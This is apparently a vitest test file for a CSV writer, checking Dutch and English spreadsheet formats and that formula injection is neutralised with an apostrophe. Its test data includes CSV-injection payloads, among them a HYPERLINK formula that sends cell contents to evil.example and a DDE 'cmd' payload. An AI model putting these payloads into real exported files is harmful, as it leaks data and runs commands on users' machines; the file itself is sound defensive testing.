// Writing CSV: the habits of each language, formulas that stay text, numbers that stay numbers.
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { LANGUAGES } from '../../shared/domain/words.ts';
import { writeCsv } from '../../shared/interop/csv.ts';
import { formulaFree } from '../../shared/domain/formula-free.ts';
import { csvLines } from '../../shared/interop/csv-lines.ts';
import { readRatings } from '../../shared/interop/ratings-csv.ts';

/** What makes a spreadsheet work something out, and the ways to hide it. */
const SIGNS = ['=1+1', '+31', '-2+3', '@SUM(A1)', '＝1', '＋1', '－1', '＠SUM(A1)'];
const FORMULAS = [
  ...SIGNS,
  ...['\t', '\r', '\n', '\0', ' ', '\uFEFF', '\u200B', ' \t\0'].flatMap((before) =>
    SIGNS.map((sign) => before + sign),
  ),
  '\tx',
  '\rx',
  '\0x',
  '=HYPERLINK("http://evil.example/"&A1,"x")',
  "=cmd|' /C calc'!A0",
  '=1+1;=2+2',
  '=1,"=2"',
];

/** As Excel, Calc and Sheets read a cell: what they skip goes, then the first sign tells. */
function isTakenForFormula(cell: string): boolean {
  const skipped = cell.replaceAll(/[\0\u200B-\u200F\u2060\uFEFF]/gu, '');
  return /^[\t\r\n]|^\s*[=+\-@＝＋－＠]/u.test(skipped) || cell.startsWith('\0');
}

const ROWS = [
  ['maat', 'waarde', 'n'],
  ['ICC', -0.25, 12],
  ['kappa; gewogen', null, 3],
];

describe('writeCsv', () => {
  it('writes for a Dutch spreadsheet: mark, semicolons, decimal commas', () => {
    expect(writeCsv(ROWS, { language: 'nl' })).toBe(
      '\uFEFFmaat;waarde;n\r\nICC;-0,25;12\r\n"kappa; gewogen";;3\r\n',
    );
  });

  it('writes for an English one: mark, commas, decimal points', () => {
    expect(writeCsv(ROWS, { language: 'en' })).toBe(
      '\uFEFFmaat,waarde,n\r\nICC,-0.25,12\r\nkappa; gewogen,,3\r\n',
    );
  });

  it.each(FORMULAS)('lets no text become a formula: %j', (text) => {
    for (const language of LANGUAGES) {
      const read = parse(writeCsv([[text, 'a']], { language }), {
        bom: true,
        delimiter: language === 'nl' ? ';' : ',',
      });
      // What a spreadsheet gets to see: the text, behind an apostrophe, and no cell more than was written.
      expect(read).toEqual([[`'${text}`, 'a']]);
      expect(isTakenForFormula(read[0]?.[0] ?? '')).toBe(false);
    }
  });

  it.each(['a=b', 'x', "'quoted", '1.000', '', 'vader + moeder', '<b>'])(
    'leaves other text alone: %j',
    (text) => {
      expect(parse(writeCsv([[text, 'a']], { language: 'en' }), { bom: true })).toEqual([[text, 'a']]);
    },
  );

  it('control: without care each of them is taken for a formula', () => {
    expect(FORMULAS.filter((text) => !isTakenForFormula(text))).toEqual([]);
  });

  it.each([-2, -0.5, 1e-7])('leaves a number a number: %d', (value) => {
    expect(writeCsv([[value, 1]], { language: 'en' })).toBe(`\uFEFF${value},1\r\n`);
  });

  it('refuses what is no number', () => {
    expect(() => writeCsv([[Number.NaN]], { language: 'nl' })).toThrow(RangeError);
  });

  it('writes text that is read back as it was, whatever is in it', () => {
    const cell = fc
      .string()
      .filter((text) => text.trim() === text && text !== '' && formulaFree(text) === text);
    fc.assert(
      fc.property(
        fc.constantFrom('nl', 'en'),
        fc.array(fc.tuple(cell, cell), { minLength: 1 }),
        (language, rows) => {
          const written = writeCsv([['a', 'b'], ...rows], { language });
          const read = csvLines(written);
          expect(read.ok && read.lines.slice(1).map(({ fields }) => fields)).toEqual(rows);
        },
      ),
    );
  });

  it('writes ratings that are read back as they were', () => {
    const rating = fc.option(fc.integer({ min: -20, max: 20 }).map((half) => half / 2));
    // Halves come first: a first column of whole numbers may be taken for numbers of rows, and then asks for a name.
    const half = fc.integer({ min: -20, max: 20 }).map((whole) => whole + 0.5);
    const table = fc.array(fc.tuple(half, rating, fc.integer()), { minLength: 2, maxLength: 30 });
    fc.assert(
      fc.property(fc.constantFrom('nl', 'en'), table, (language, units) => {
        fc.pre(units.some(([, second]) => second !== null));
        const written = writeCsv([['Anna', 'Bea', 'Chris'], ...units], { language });
        expect(readRatings(written)).toMatchObject({ ok: true, table: { raterCount: 3, units } });
      }),
    );
  });
});
